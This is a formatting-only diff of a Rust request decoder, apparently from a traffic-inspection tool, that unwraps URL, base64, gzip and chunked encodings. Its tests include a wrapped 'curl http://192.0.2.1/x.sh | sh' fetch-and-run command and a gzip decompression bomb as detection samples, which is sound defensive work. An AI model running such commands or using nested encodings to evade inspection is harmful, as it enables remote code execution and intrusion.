@@ -41,7 +41,11 @@ pub struct Decoded {
 /// Finds what is wrapped in a request; for other protocols than HTTP, in all of its bytes.
 #[must_use]
 pub fn decode(raw: &[u8], http: Option<&http::Request<'_>>) -> Vec<Decoded> {
-    let mut finder = Finder { found: Vec::new(), seen: HashSet::new(), left: MAX_DECODED_BYTES };
+    let mut finder = Finder {
+        found: Vec::new(),
+        seen: HashSet::new(),
+        left: MAX_DECODED_BYTES,
+    };
     let Some(http) = http else {
         finder.unwrap("bytes", raw, MAX_DEPTH);
         return finder.found;
@@ -62,9 +66,14 @@ pub fn decode(raw: &[u8], http: Option<&http::Request<'_>>) -> Vec<Decoded> {
 /// Returns the names and values of a query or form, decoded, in the order sent.
 #[must_use]
 pub fn parameters(encoded: &[u8]) -> Vec<(Vec<u8>, Vec<u8>)> {
-    let pairs = encoded.split(|&byte| byte == b'&').filter(|pair| !pair.is_empty());
+    let pairs = encoded
+        .split(|&byte| byte == b'&')
+        .filter(|pair| !pair.is_empty());
     let decode = |part: &[u8]| {
-        let spaced: Vec<u8> = part.iter().map(|&byte| if byte == b'+' { b' ' } else { byte }).collect();
+        let spaced: Vec<u8> = part
+            .iter()
+            .map(|&byte| if byte == b'+' { b' ' } else { byte })
+            .collect();
         percent_decode(&spaced).collect()
     };
     pairs
@@ -106,7 +115,10 @@ impl Finder {
         bytes.truncate(self.left);
         if !bytes.is_empty() && self.found.len() < MAX_PARTS && self.seen.insert(bytes.clone()) {
             self.left -= bytes.len();
-            self.found.push(Decoded { what: what.clone(), bytes: bytes.clone() });
+            self.found.push(Decoded {
+                what: what.clone(),
+                bytes: bytes.clone(),
+            });
             self.unwrap(&what, &bytes, depth - 1);
         }
     }
@@ -133,13 +145,15 @@ pub(crate) fn decompressed(bytes: &[u8], max_bytes: usize) -> Option<(&'static s
 /// Finds runs of characters that base64 may be made of. `-` and `_` are those of its URL form.
 fn base64_runs(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
     let is_base64 = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/-_=".contains(byte);
-    bytes.split(move |byte| !is_base64(byte)).map(|run| match run.iter().rposition(|&byte| byte != b'=') {
-        // `cmd=aGk=`: the first `=` is none of base64's.
-        Some(last) => match run[..last].iter().rposition(|&byte| byte == b'=') {
-            Some(equals) => &run[equals + 1..],
-            None => run,
-        },
-        None => &run[..0],
+    bytes.split(move |byte| !is_base64(byte)).map(|run| {
+        match run.iter().rposition(|&byte| byte != b'=') {
+            // `cmd=aGk=`: the first `=` is none of base64's.
+            Some(last) => match run[..last].iter().rposition(|&byte| byte == b'=') {
+                Some(equals) => &run[equals + 1..],
+                None => run,
+            },
+            None => &run[..0],
+        }
     })
 }
 
@@ -148,21 +162,36 @@ fn base64_decoded(run: &[u8]) -> Option<Vec<u8>> {
     let config = GeneralPurposeConfig::new()
         .with_decode_padding_mode(DecodePaddingMode::Indifferent)
         .with_decode_allow_trailing_bits(true);
-    let alphabet = if run.iter().any(|byte| b"-_".contains(byte)) { &URL_SAFE } else { &STANDARD };
-    let decoded = GeneralPurpose::new(alphabet, config).decode(run).ok().filter(|_| run.len() >= MIN_BASE64_CHARS)?;
-    let is_text = std::str::from_utf8(&decoded)
-        .is_ok_and(|text| text.chars().all(|char| !char.is_control() || matches!(char, '\n' | '\r' | '\t')));
-    (is_text || decoded.starts_with(b"\x1f\x8b\x08") || decoded.starts_with(b"\xac\xed\0\x05")).then_some(decoded)
+    let alphabet = if run.iter().any(|byte| b"-_".contains(byte)) {
+        &URL_SAFE
+    } else {
+        &STANDARD
+    };
+    let decoded = GeneralPurpose::new(alphabet, config)
+        .decode(run)
+        .ok()
+        .filter(|_| run.len() >= MIN_BASE64_CHARS)?;
+    let is_text = std::str::from_utf8(&decoded).is_ok_and(|text| {
+        text.chars()
+            .all(|char| !char.is_control() || matches!(char, '\n' | '\r' | '\t'))
+    });
+    (is_text || decoded.starts_with(b"\x1f\x8b\x08") || decoded.starts_with(b"\xac\xed\0\x05"))
+        .then_some(decoded)
 }
 
 /// RFC 9112, 7.1.
 pub(crate) fn is_chunked(http: &http::Request<'_>) -> bool {
-    http.values(b"transfer-encoding").any(|value| value.to_ascii_lowercase().ends_with(b"chunked"))
+    http.values(b"transfer-encoding")
+        .any(|value| value.to_ascii_lowercase().ends_with(b"chunked"))
 }
 
 /// Joins chunks; `None` when not one can be read.
 fn unchunk(body: &[u8]) -> Option<Vec<u8>> {
-    let joined: Vec<u8> = chunks(body).into_iter().flat_map(|chunk| &body[chunk]).copied().collect();
+    let joined: Vec<u8> = chunks(body)
+        .into_iter()
+        .flat_map(|chunk| &body[chunk])
+        .copied()
+        .collect();
     (!joined.is_empty()).then_some(joined)
 }
 
@@ -170,13 +199,24 @@ fn unchunk(body: &[u8]) -> Option<Vec<u8>> {
 pub(crate) fn chunks(body: &[u8]) -> Vec<Range<usize>> {
     let (mut chunks, mut at) = (Vec::new(), 0);
     while let Some(end) = body[at..].iter().position(|&byte| byte == b'\n') {
-        let digits = body[at..at + end].split(|&byte| byte == b';').next().unwrap_or_default().trim_ascii();
-        let size = std::str::from_utf8(digits).ok().and_then(|digits| usize::from_str_radix(digits, 16).ok());
+        let digits = body[at..at + end]
+            .split(|&byte| byte == b';')
+            .next()
+            .unwrap_or_default()
+            .trim_ascii();
+        let size = std::str::from_utf8(digits)
+            .ok()
+            .and_then(|digits| usize::from_str_radix(digits, 16).ok());
         let Some(size @ 1..) = size else { break };
         let start = at + end + 1;
         chunks.push(start..start.saturating_add(size).min(body.len()));
-        let Some(more) = body[start..].get(size..) else { break };
-        let more = more.strip_prefix(b"\r\n").or_else(|| more.strip_prefix(b"\n")).unwrap_or(more);
+        let Some(more) = body[start..].get(size..) else {
+            break;
+        };
+        let more = more
+            .strip_prefix(b"\r\n")
+            .or_else(|| more.strip_prefix(b"\n"))
+            .unwrap_or(more);
         at = body.len() - more.len();
     }
     chunks
@@ -195,7 +235,9 @@ mod tests {
     fn found(raw: &[u8]) -> Vec<(String, String)> {
         let http = http::parse(raw);
         let parts = decode(raw, http.as_ref()).into_iter();
-        parts.map(|part| (part.what, part.bytes.escape_ascii().to_string())).collect()
+        parts
+            .map(|part| (part.what, part.bytes.escape_ascii().to_string()))
+            .collect()
     }
 
     fn gzip(bytes: &[u8]) -> Vec<u8> {
@@ -206,23 +248,36 @@ mod tests {
 
     #[test]
     fn each_wrapping_is_undone() {
-        let raw = b"GET /?c=%2565cho%20x HTTP/1.1\r\nAuthorization: Basic YWRtaW46cGFzc3dvcmQ=\r\n\r\n";
+        let raw =
+            b"GET /?c=%2565cho%20x HTTP/1.1\r\nAuthorization: Basic YWRtaW46cGFzc3dvcmQ=\r\n\r\n";
         let expected = [
             ("target, URL-decoded", "/?c=%65cho x"),
             ("target, URL-decoded, URL-decoded", "/?c=echo x"),
-            ("Authorization, base64 YWRtaW46cGFzc3dvcmQ=", "admin:password"),
+            (
+                "Authorization, base64 YWRtaW46cGFzc3dvcmQ=",
+                "admin:password",
+            ),
         ];
-        assert_eq!(found(raw), expected.map(|(what, bytes)| (what.to_owned(), bytes.to_owned())));
+        assert_eq!(
+            found(raw),
+            expected.map(|(what, bytes)| (what.to_owned(), bytes.to_owned()))
+        );
     }
 
     #[test]
     fn one_inside_the_other_is_found() {
         let inner = BASE64_URL_SAFE_NO_PAD.encode(gzip(b"curl http://192.0.2.1/x.sh | sh"));
-        let raw = format!("POST / HTTP/1.1\r\n\r\n{{\"cmd\":\"{}\"}}", inner.replace('-', "%2d"));
+        let raw = format!(
+            "POST / HTTP/1.1\r\n\r\n{{\"cmd\":\"{}\"}}",
+            inner.replace('-', "%2d")
+        );
         let found = found(raw.as_bytes());
         let (what, bytes) = found.last().unwrap();
         assert_eq!(bytes, "curl http://192.0.2.1/x.sh | sh");
-        assert!(what.starts_with("body, ") && what.ends_with(", gunzipped"), "{what}");
+        assert!(
+            what.starts_with("body, ") && what.ends_with(", gunzipped"),
+            "{what}"
+        );
     }
 
     #[test]
@@ -234,7 +289,10 @@ mod tests {
             ("ffffffffffffffff\r\nhello", "hello"),
         ] {
             let found = found(format!("{head}{body}").as_bytes());
-            assert_eq!(found, [("body, chunks joined".to_owned(), joined.to_owned())]);
+            assert_eq!(
+                found,
+                [("body, chunks joined".to_owned(), joined.to_owned())]
+            );
         }
         for body in ["", "0\r\n\r\n", "-1\r\nx", "zz\r\nhello", "5"] {
             assert_eq!(found(format!("{head}{body}").as_bytes()), []);
@@ -257,26 +315,44 @@ mod tests {
     fn what_explodes_is_cut_off() {
         let bomb = gzip(&vec![b'a'; 50_000_000]);
         let raw = [b"POST / HTTP/1.1\r\n\r\n", &bomb[..]].concat();
-        let sizes: Vec<_> = decode(&raw, http::parse(&raw).as_ref()).iter().map(|part| part.bytes.len()).collect();
+        let sizes: Vec<_> = decode(&raw, http::parse(&raw).as_ref())
+            .iter()
+            .map(|part| part.bytes.len())
+            .collect();
         assert_eq!(sizes, [MAX_DECODED_BYTES]);
         // Small ones that are many: each would fit.
-        let bombs = (0..MAX_PARTS)
-            .map(|number| BASE64_STANDARD.encode(gzip(&[[b'a'; 50_000], [number as u8; 50_000]].concat())));
-        let raw = format!("POST / HTTP/1.1\r\n\r\n{}", bombs.collect::<Vec<_>>().join(" "));
-        let sizes =
-            decode(raw.as_bytes(), http::parse(raw.as_bytes()).as_ref()).into_iter().map(|part| part.bytes.len());
+        let bombs = (0..MAX_PARTS).map(|number| {
+            BASE64_STANDARD.encode(gzip(&[[b'a'; 50_000], [number as u8; 50_000]].concat()))
+        });
+        let raw = format!(
+            "POST / HTTP/1.1\r\n\r\n{}",
+            bombs.collect::<Vec<_>>().join(" ")
+        );
+        let sizes = decode(raw.as_bytes(), http::parse(raw.as_bytes()).as_ref())
+            .into_iter()
+            .map(|part| part.bytes.len());
         assert_eq!(sizes.sum::<usize>(), MAX_DECODED_BYTES);
         let many = BASE64_STANDARD.encode("many words here") + " ";
-        let many: String = (0..1000).map(|number| many.replacen('b', &format!("b{number:04}"), 1)).collect();
+        let many: String = (0..1000)
+            .map(|number| many.replacen('b', &format!("b{number:04}"), 1))
+            .collect();
         assert!(found(format!("POST / HTTP/1.1\r\n\r\n{many}").as_bytes()).len() <= MAX_PARTS);
     }
 
     #[test]
     fn parameters_keep_their_order_and_bytes() {
-        let expected: [(&[u8], &[u8]); 5] =
-            [(b"b", b"1 2"), (b"a", b"\xff="), (b"b", b""), (b"", b"x"), (b"%zz", b"%")];
+        let expected: [(&[u8], &[u8]); 5] = [
+            (b"b", b"1 2"),
+            (b"a", b"\xff="),
+            (b"b", b""),
+            (b"", b"x"),
+            (b"%zz", b"%"),
+        ];
         let found = parameters(b"b=1+2&a=%ff=&&b&=x&%zz=%");
-        let found: Vec<_> = found.iter().map(|(name, value)| (&name[..], &value[..])).collect();
+        let found: Vec<_> = found
+            .iter()
+            .map(|(name, value)| (&name[..], &value[..]))
+            .collect();
         assert_eq!(found, expected);
     }
 }
